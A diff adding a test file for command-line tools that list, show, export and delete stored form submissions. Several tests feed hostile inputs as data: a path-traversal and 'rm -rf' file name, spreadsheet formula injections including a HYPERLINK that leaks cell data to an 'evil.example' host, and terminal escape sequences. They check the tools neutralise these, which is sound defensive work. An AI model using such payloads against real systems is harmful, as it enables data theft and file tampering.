@@ -1,0 +1,523 @@
+import { execFile } from "node:child_process";
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { basename, join } from "node:path";
+import { Readable } from "node:stream";
+import { text } from "node:stream/consumers";
+import { expect, onTestFinished, test } from "vitest";
+import { fromBufferPromise } from "yauzl";
+import { openDatabase } from "#api/database/open.ts";
+import type { Database } from "#api/database/tables.ts";
+import { storeSubmission } from "#api/models/submissions.ts";
+import type { Submission } from "#api/models/submissions.ts";
+import { contact, order, quote, recruit, sampleNow, survey } from "#test/samples.ts";
+import { testOnEach } from "#test/databases.ts";
+import { recordedTerminal } from "./recorded-terminal.ts";
+import { exportSubmissions } from "./submissions/export.ts";
+import type { Format } from "./submissions/export.ts";
+import { forgetSubmissions } from "./submissions/forget.ts";
+import { listSubmissions } from "./submissions/list.ts";
+import { showSubmission } from "./submissions/show.ts";
+import { pagesOfSubmissions } from "./submissions/stored.ts";
+import type { Filter } from "./submissions/stored.ts";
+
+const days = ["2026-11-19", "2026-11-20", "2026-11-21"].map((day) => new Date(`${day}T23:59:59.999Z`));
+
+testOnEach("the newest are listed first, in a table", async (database) => {
+  await storeSample(database, {}, days[0]);
+  const application = {
+    kind: "application",
+    email: "Lucia@example.com",
+    subject: "europe",
+    data: recruit,
+  } as const;
+  const reference = await storeSample(database, application, days[2]);
+  const { out } = await list(database);
+  const [head, first, second, ...others] = out.split("\n");
+  expect(head).toMatch(/^reference +received \(UTC\) +kind +subject +name +company +e-mail +deleted on$/);
+  expect(first).toMatch(
+    new RegExp(`^${reference} +2026-11-21 23:59 +application +europe +Lucía Gómez +lucia@`),
+  );
+  expect(second).toMatch(/^CT-.* Ana Pérez +Químicas del Sur +ana@example\.com +2028-11-21$/);
+  expect(others).toEqual([""]);
+});
+
+testOnEach("a list is narrowed by kind, address and days, both days among them", async (database) => {
+  const [old, middle, young] = [
+    await storeSample(database, { kind: "order", data: order }, days[0]),
+    await storeSample(database, { email: "Ming@Example.com", kind: "survey", data: survey }, days[1]),
+    await storeSample(database, {}, days[2]),
+  ];
+  const references = async (filter: Filter) =>
+    (JSON.parse((await list(database, { filter, json: true })).out) as { reference: string }[]).map(
+      ({ reference }) => reference,
+    );
+  expect(await references({})).toEqual([young, middle, old]);
+  expect(await references({ kind: "survey" })).toEqual([middle]);
+  expect(await references({ email: " MING@example.com" })).toEqual([middle]);
+  expect(await references({ since: "2026-11-20" })).toEqual([young, middle]);
+  expect(await references({ before: "2026-11-21" })).toEqual([middle, old]);
+  expect(await references({ since: "2026-11-20", before: "2026-11-21" })).toEqual([middle]);
+  await expect(list(database, { filter: { kind: "quote" } })).rejects.toMatchObject({ exit: "nothing" });
+});
+
+testOnEach("a list that is cut says how many there are", async (database) => {
+  for (const day of days) await storeSample(database, {}, day);
+  const { out, err } = await list(database, { limit: 2 });
+  expect(out.trim().split("\n")).toHaveLength(3);
+  expect(err).toBe("\nThe newest 2 of 3. --limit 3 lists all.\n");
+  expect((await list(database, { limit: 3 })).err).toBe("");
+});
+
+testOnEach("a table fits the terminal, and is whole in a pipe", async (database) => {
+  const company = "A company with a name that has no end ".repeat(4).trim();
+  await storeSample(database, { data: { ...contact, company } });
+  const lines = (await list(database, { columns: 100 })).out.trim().split("\n");
+  expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(100);
+  expect(lines[1]).toContain("…");
+  expect((await list(database)).out).toContain(company);
+});
+
+testOnEach("what a visitor typed moves no cursor and hides nothing", async (database) => {
+  const name = "\u001B]0;title\u0007Ana\u009B31m\u202Egpj.exe";
+  const reference = await storeSample(database, { data: { ...contact, name, message: `a\r\nb${name}` } });
+  const told = [
+    await list(database),
+    await list(database, { json: true }),
+    await show(database, { reference }),
+  ];
+  for (const { out } of told) expect(out).not.toMatch(/(?!\n)[\p{Cc}\u202E]/u);
+  expect((JSON.parse(told[1]?.out ?? "") as { name: string }[])[0]?.name).toBe(name);
+});
+
+testOnEach(
+  "everything of a submission is shown: fields, files, letters and what became of them",
+  async (database) => {
+    await addUpload(database, "file-1", "route survey.pdf");
+    const data = { ...survey, notes: "Gate 3.\nAsk for the shift leader." };
+    const reference = await storeSample(database, {
+      kind: "survey",
+      subject: "cargo",
+      data,
+      files: ["file-1"],
+    });
+    const { out } = await show(database, { reference: ` ${reference.toLowerCase()}` });
+    expect(out).toMatch(new RegExp(`^${reference}\nkind +survey\n`));
+    expect(out).toMatch(
+      /^slots +date 2026-12-02, from 09:00, to 12:00; date 2026-12-03, from 14:00, to 16:00$/m,
+    );
+    expect(out).toMatch(/^time zone +Europe\/Madrid$/m);
+    expect(out).toMatch(/^notes +Gate 3\.\n {9,}Ask for the shift leader\.$/m);
+    expect(out).toContain("Files\nroute survey.pdf  pdf  2 kB\n");
+    expect(out).toContain("Letters\nana@example.com  Your message  waits to be sent\n");
+
+    await database.updateTable("outbox").set({ attempts: 2, last_error: "550 no such user" }).execute();
+    expect((await show(database, { reference })).out).toContain(
+      "not sent after 2 tries, next 2026-11-21 12:00: 550 no such user",
+    );
+    await database.updateTable("outbox").set({ sent_at: "2026-11-21T12:05:00.000Z" }).execute();
+    expect((await show(database, { reference })).out).toContain("sent 2026-11-21 12:05");
+    expect(JSON.parse((await show(database, { reference, json: true })).out)).toMatchObject({
+      reference,
+      data,
+      files: [{ id: "file-1", name: "route survey.pdf", size: 2048 }],
+      letters: [{ to: ["ana@example.com"], state: "sent 2026-11-21 12:05" }],
+    });
+  },
+);
+
+testOnEach("a reference that nobody has is not found", async (database) => {
+  await expect(show(database, { reference: "CT-2222-2222" })).rejects.toMatchObject({
+    exit: "nothing",
+    message: "CT-2222-2222: there is no such submission",
+  });
+});
+
+testOnEach(
+  "files are saved under harmless names, for their reader alone, over no other",
+  async (database) => {
+    await addUpload(database, "file-1", "../../etc/passwd; rm -rf .pdf");
+    await addUpload(database, "file-2", "履歴書.pdf");
+    const files = ["file-1", "file-2"];
+    const reference = await storeSample(database, { kind: "application", data: recruit, files });
+    const folder = join(temporaryFolder(), "new", "folder");
+    const { err } = await show(database, { reference, folder });
+    const names = [`${reference}-1-..-..-etc-passwd-rm--rf-.pdf`, `${reference}-2-履歴書.pdf`];
+    expect(readdirSync(folder).toSorted()).toEqual(names);
+    expect(err).toBe(names.map((name) => `Saved ${join(folder, name)}\n`).join(""));
+    expect(readFileSync(join(folder, names[1] ?? ""), "utf8")).toBe("content of file-2");
+    expect(statSync(join(folder, names[0] ?? "")).mode & 0o777).toBe(0o600);
+
+    writeFileSync(join(folder, names[0] ?? ""), "mine");
+    await expect(show(database, { reference, folder })).rejects.toThrow("is there already");
+    expect(readFileSync(join(folder, names[0] ?? ""), "utf8")).toBe("mine");
+  },
+);
+
+testOnEach("a file that breaks off while it is read leaves nothing", async (database) => {
+  await addUpload(database, "file-1");
+  const reference = await storeSample(database, { files: ["file-1"] });
+  const folder = temporaryFolder();
+  const { terminal } = recordedTerminal();
+  const broken = async () =>
+    Readable.from(
+      (async function* () {
+        yield "half";
+        throw new Error("the store has gone");
+      })(),
+    );
+  await expect(
+    showSubmission(database, { reference, json: false, folder }, terminal, broken),
+  ).rejects.toThrow("the store has gone");
+  expect(readdirSync(folder)).toEqual([]);
+});
+
+testOnEach("pages hold every row once, also where many came at the same moment", async (database) => {
+  const rows = Array.from({ length: 1234 }, (_, index) => rowOf(index, index % 3 === 0 ? days[0] : days[1]));
+  for (let from = 0; from < rows.length; from += 500) {
+    await database
+      .insertInto("submissions")
+      .values(rows.slice(from, from + 500))
+      .execute();
+  }
+  const sizes: number[] = [];
+  const seen = new Set<string>();
+  const times: string[] = [];
+  for await (const page of pagesOfSubmissions(database, {})) {
+    sizes.push(page.length);
+    for (const { reference, receivedAt } of page) {
+      seen.add(reference);
+      times.push(receivedAt);
+    }
+    // What comes meanwhile is newer than all of it.
+    await storeSample(database, {}, days[2]);
+  }
+  expect(sizes).toEqual([500, 500, 234]);
+  expect(seen.size).toBe(1234);
+  expect(times).toEqual(times.toSorted().toReversed());
+});
+
+testOnEach(
+  "CSV has a row for each, a column for each field, and quotes as RFC 4180 asks",
+  async (database) => {
+    await storeSample(database, { data: { ...contact, message: 'A "tank",\nor two' } }, days[1]);
+    await storeSample(database, { kind: "quote", data: quote }, days[0]);
+    const csv = (await exported(database, "csv")).toString();
+    expect(csv.startsWith("\uFEFFreference,kind,subject,receivedAt,deleteOn,locale,email,topic,name,")).toBe(
+      true,
+    );
+    const [head = [], first = [], second = [], ...others] = parseCsv(csv);
+    expect(others).toEqual([]);
+    expect(new Set([head.length, first.length, second.length]).size).toBe(1);
+    const cell = (row: string[], name: string) => row[head.indexOf(name)];
+    expect(cell(first, "message")).toBe('A "tank",\nor two');
+    expect(cell(first, "quantity")).toBe("");
+    expect(cell(second, "quantity")).toBe("42");
+    expect(cell(second, "extras")).toBe("insurance");
+    expect(cell(second, "marketing")).toBe("no");
+    expect(csv.replace(/"[^"]*"/g, "").replaceAll("\r\n", "")).not.toContain("\n");
+  },
+);
+
+testOnEach("a spreadsheet calculates nothing that a visitor typed", async (database) => {
+  const formulas = ['=HYPERLINK("https://evil.example?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1"];
+  for (const name of formulas) await storeSample(database, { data: { ...contact, name } });
+  const [head = [], ...rows] = parseCsv((await exported(database, "csv")).toString());
+  const names = rows.map((row) => row[head.indexOf("name")]);
+  expect(names.toSorted()).toEqual(formulas.map((text) => `'${text.replace("\t", " ")}`).toSorted());
+  expect(rows[0]?.[head.indexOf("phone")]).toBe("'+34 600 000 000");
+
+  const { "xl/worksheets/sheet1.xml": sheet = "", "xl/sharedStrings.xml": strings = "" } = await unzip(
+    await exported(database, "xlsx"),
+  );
+  expect(sheet).not.toContain("<f>");
+  expect(sheet + strings).toContain("=HYPERLINK(");
+});
+
+testOnEach("JSON holds everything as it was typed", async (database) => {
+  const reference = await storeSample(database, { kind: "survey", email: survey.email, data: survey });
+  for (let count = 0; count < 2; count += 1) await storeSample(database, {}, days[0]);
+  const all = JSON.parse((await exported(database, "json")).toString()) as {
+    reference: string;
+    data: object;
+  }[];
+  expect(all).toHaveLength(3);
+  expect(all.find((each) => each.reference === reference)).toMatchObject({ kind: "survey", data: survey });
+});
+
+testOnEach(
+  "an export is for its reader alone, named by what it holds, over no other file",
+  async (database) => {
+    await storeSample(database);
+    const file = join(temporaryFolder(), "all.csv");
+    const { terminal, out } = recordedTerminal();
+    const write = (given: { file: string; overwrite?: boolean; filter?: Filter }) =>
+      exportSubmissions(database, { overwrite: false, filter: {}, ...given }, terminal);
+    await write({ file });
+    expect(out()).toBe(`${file}: 1 submission written.\n`);
+    expect(statSync(file).mode & 0o777).toBe(0o600);
+    await expect(write({ file })).rejects.toThrow("is there already");
+    expect(await write({ file, overwrite: true })).toBe("done");
+    await expect(write({ file: "all.txt" })).rejects.toMatchObject({ exit: "wrongUsage" });
+    await expect(write({ file: `${file}.json`, filter: { kind: "order" } })).rejects.toMatchObject({
+      exit: "nothing",
+    });
+    expect(readdirSync(join(file, ".."))).toEqual(["all.csv"]);
+  },
+);
+
+testOnEach("on a terminal an export shows how far it is", async (database) => {
+  await storeSample(database);
+  const { terminal, err } = recordedTerminal({ columns: 80 });
+  const file = join(temporaryFolder(), "all.json");
+  await exportSubmissions(database, { file, filter: {}, overwrite: false }, terminal);
+  expect(err()).toContain("of 1");
+});
+
+testOnEach("an address is forgotten with its letters and files, and nothing of others", async (database) => {
+  await addUpload(database, "file-1");
+  await addUpload(database, "file-2");
+  await storeSample(database, { files: ["file-1"] });
+  await storeSample(database, {});
+  const other = await storeSample(database, { email: "ming@example.com", files: ["file-2"] });
+  const { out, removed } = await forget(database, { email: "ANA@example.com", yes: true });
+  expect(out).toBe("Deleted 2 submissions, 2 letters, 1 file.\n");
+  expect(removed).toEqual(["file-1"]);
+  expect(await referencesIn(database, "submissions")).toEqual([other]);
+  expect(await referencesIn(database, "outbox")).toEqual([other]);
+  expect(await referencesIn(database, "uploads")).toEqual([other]);
+  await expect(forget(database, { email: "ana@example.com", yes: true })).rejects.toMatchObject({
+    exit: "nothing",
+  });
+});
+
+testOnEach("one submission is forgotten by its reference", async (database) => {
+  const [gone, stays] = [await storeSample(database), await storeSample(database)];
+  expect((await forget(database, { reference: gone.toLowerCase(), yes: true })).out).toBe(
+    "Deleted 1 submission, 1 letter, no files.\n",
+  );
+  expect(await referencesIn(database, "submissions")).toEqual([stays]);
+});
+
+testOnEach("nothing is forgotten without a yes", async (database) => {
+  const reference = await storeSample(database);
+  const refused = { exit: "nothing", message: expect.stringContaining("--yes") };
+  for (const answer of [undefined, "", "\n", "no\n", "yeah\n"]) {
+    await expect(forget(database, { reference, yes: false, answer })).rejects.toMatchObject(refused);
+  }
+  expect(await referencesIn(database, "submissions")).toEqual([reference]);
+  const { out, err } = await forget(database, { reference, yes: false, answer: "Y\n" });
+  expect(err).toContain(`Delete 1 submission of ${reference} for good? [y/N]`);
+  expect(out).toBe("Deleted 1 submission, 1 letter, no files.\n");
+});
+
+testOnEach("forget wants a reference or an address, not both and not neither", async (database) => {
+  const usage = { exit: "wrongUsage" };
+  await expect(forget(database, { yes: true })).rejects.toMatchObject(usage);
+  const both = { reference: "CT-1", email: "ana@example.com", yes: true };
+  await expect(forget(database, both)).rejects.toMatchObject(usage);
+});
+
+test("the programs themselves list, show, save, export, forget and retain", { timeout: 60_000 }, async () => {
+  const dataDir = join(temporaryFolder(), "data");
+  const fileId = "0123456789abcdefghijklmnopqrstuv";
+  const database = await openDatabase({ dataDir });
+  await addUpload(database, fileId);
+  const application = { kind: "application", email: recruit.email, data: recruit, files: [fileId] } as const;
+  const reference = await storeSample(database, application);
+  await storeSample(database, { deleteOn: "2026-11-21" });
+  await database.destroy();
+  const run = (program: string, ...args: string[]) => spawnProgram(dataDir, `cli/${program}.ts`, args);
+
+  const saved = join(dataDir, "saved");
+  expect(await run("submissions", "show", reference, "--save-files", saved)).toMatchObject({
+    code: 1,
+    err: expect.stringContaining("there is no such file or folder"),
+  });
+  writeFileSync(join(dataDir, "uploads", fileId), "a CV");
+  expect(await run("submissions", "show", reference, "--save-files", saved)).toMatchObject({ code: 0 });
+  expect(readFileSync(join(saved, `${reference}-1-cv.pdf`), "utf8")).toBe("a CV");
+
+  const listed = await run("submissions", "list", "--until", "2026-11-21", "--json");
+  expect(JSON.parse(listed.out)).toHaveLength(2);
+  expect(await run("submissions", "list", "--until", "2026-11-20")).toEqual({
+    code: 3,
+    out: "",
+    err: "No submission matches.\n",
+  });
+  expect(await run("submissions", "list", "--kind", "news")).toMatchObject({ code: 2 });
+  expect(await run("submissions", "export", join(dataDir, "all.xlsx"))).toMatchObject({ code: 0 });
+
+  const due = ["--now", "2026-11-21"];
+  expect(await run("retention", ...due, "--dry-run")).toMatchObject({
+    code: 0,
+    out: "Would delete 1 submission, 1 letter, no files. Nothing was deleted.\n",
+  });
+  expect((await run("retention", ...due)).out).toBe("Deleted 1 submission, 1 letter, no files.\n");
+  expect((await run("retention", ...due)).out).toBe("Deleted no submissions, no letters, no files.\n");
+
+  expect(await run("submissions", "forget", reference)).toMatchObject({ code: 3 });
+  expect(await run("submissions", "forget", reference, "--yes")).toMatchObject({
+    code: 0,
+    out: "Deleted 1 submission, 1 letter, 1 file.\n",
+  });
+  expect(existsSync(join(dataDir, "uploads", fileId))).toBe(false);
+});
+
+test("retention removes the files of what it deletes, and orphans", { timeout: 60_000 }, async () => {
+  const dataDir = join(temporaryFolder(), "data");
+  const [claimed, kept] = ["c".repeat(32), "k".repeat(32)];
+  const database = await openDatabase({ dataDir });
+  for (const id of [claimed, kept]) await addUpload(database, id);
+  await storeSample(database, { files: [claimed], deleteOn: "2027-05-21" });
+  await storeSample(database, { files: [kept], deleteOn: "2027-06-18" });
+  await database.destroy();
+  expect((await spawnProgram(dataDir, "cli/retention.ts", ["--now", "2027-05-20"])).out).toBe(
+    "Deleted no submissions, no letters, no files.\n",
+  );
+  for (const id of [claimed, kept]) writeFileSync(join(dataDir, "uploads", id), "a CV");
+  expect((await spawnProgram(dataDir, "cli/retention.ts", ["--now", "2027-05-21"])).out).toBe(
+    "Deleted 1 submission, 1 letter, 1 file.\n",
+  );
+  expect(readdirSync(join(dataDir, "uploads")).map((path) => basename(path))).toEqual([kept]);
+});
+
+/** Stores a submission with one letter to its sender, and answers with its reference. */
+async function storeSample(
+  database: Database,
+  given: Partial<Submission> = {},
+  now = sampleNow,
+): Promise<string> {
+  const submission: Submission = {
+    kind: "contact",
+    email: "ana@example.com",
+    subject: "quote",
+    locale: "es",
+    data: contact,
+    files: [],
+    deleteOn: "2028-11-21",
+    ...given,
+  };
+  const { reference } = await storeSubmission(database, submission, {
+    key: crypto.randomUUID(),
+    now,
+    letters: () => [{ to: [submission.email], subject: "Your message", text: "We have it." }],
+  });
+  return reference;
+}
+
+/** An uploaded file that a submission can claim. */
+async function addUpload(database: Database, id: string, name = "cv.pdf"): Promise<void> {
+  const created_at = sampleNow.toISOString();
+  const upload = { id, kind: "cv", name, type: "pdf", size: 2048, created_at, reference: null };
+  await database.insertInto("uploads").values(upload).execute();
+}
+
+async function list(
+  database: Database,
+  {
+    filter = {},
+    limit = 50,
+    json = false,
+    columns,
+  }: { filter?: Filter; limit?: number; json?: boolean; columns?: number } = {},
+) {
+  const { terminal, out, err } = recordedTerminal({ columns });
+  await listSubmissions(database, { filter, limit, json }, terminal);
+  return { out: out(), err: err() };
+}
+
+async function show(
+  database: Database,
+  { reference, json = false, folder }: { reference: string; json?: boolean; folder?: string },
+) {
+  const { terminal, out, err } = recordedTerminal();
+  const read = (id: string) => Promise.resolve(Readable.from([`content of ${id}`]));
+  await showSubmission(database, { reference, json, folder }, terminal, read);
+  return { out: out(), err: err() };
+}
+
+async function forget(
+  database: Database,
+  { answer, ...given }: { reference?: string; email?: string; yes: boolean; answer?: string },
+) {
+  const { terminal, out, err } = recordedTerminal({ answer });
+  const removed: string[] = [];
+  await forgetSubmissions(database, given, terminal, async (id) => void removed.push(id));
+  return { out: out(), err: err(), removed };
+}
+
+async function exported(database: Database, format: Format): Promise<Buffer> {
+  const file = join(temporaryFolder(), "export");
+  await exportSubmissions(
+    database,
+    { file, format, filter: {}, overwrite: false },
+    recordedTerminal().terminal,
+  );
+  return readFileSync(file);
+}
+
+async function referencesIn(database: Database, table: "submissions" | "outbox" | "uploads") {
+  const rows = await database.selectFrom(table).select("reference").execute();
+  return rows.map(({ reference }) => reference);
+}
+
+function rowOf(index: number, received = new Date()) {
+  return {
+    reference: `CT-${String(index).padStart(5, "0")}`,
+    kind: "contact" as const,
+    idempotency_key: `key-${index}`,
+    content_hash: "",
+    email: "ana@example.com",
+    subject: "quote",
+    locale: "es" as const,
+    data: "{}",
+    received_at: received.toISOString(),
+    delete_on: "2028-11-21",
+  };
+}
+
+/** RFC 4180, read character by character. */
+function parseCsv(csv: string): string[][] {
+  const rows: string[][] = [[""]];
+  let isQuoted = false;
+  for (const [character] of csv.slice(1).matchAll(/""|\r\n|[^]/g)) {
+    const row = rows.at(-1) ?? [];
+    if (character === '"') isQuoted = !isQuoted;
+    else if (character === "," && !isQuoted) row.push("");
+    else if (character === "\r\n" && !isQuoted) rows.push([""]);
+    else row[row.length - 1] += character === '""' ? '"' : character;
+  }
+  return rows.slice(0, -1);
+}
+
+/** The files of an archive, as texts. */
+async function unzip(archive: Buffer): Promise<Record<string, string>> {
+  const zip = await fromBufferPromise(archive);
+  const files: Record<string, string> = {};
+  for await (const entry of zip.eachEntry()) {
+    files[entry.fileName] = await text(await zip.openReadStreamPromise(entry));
+  }
+  return files;
+}
+
+function spawnProgram(
+  dataDir: string,
+  program: string,
+  args: string[],
+): Promise<{ code: number; out: string; err: string }> {
+  return new Promise((resolve) => {
+    const child = execFile(
+      process.execPath,
+      [program, ...args],
+      { env: { PATH: process.env["PATH"], DATA_DIR: dataDir } },
+      (_error, out, err) => resolve({ code: child.exitCode ?? -1, out, err }),
+    );
+  });
+}
+
+function temporaryFolder(): string {
+  const folder = mkdtempSync(join(tmpdir(), "submissions-"));
+  onTestFinished(() => rmSync(folder, { recursive: true }));
+  return folder;
+}
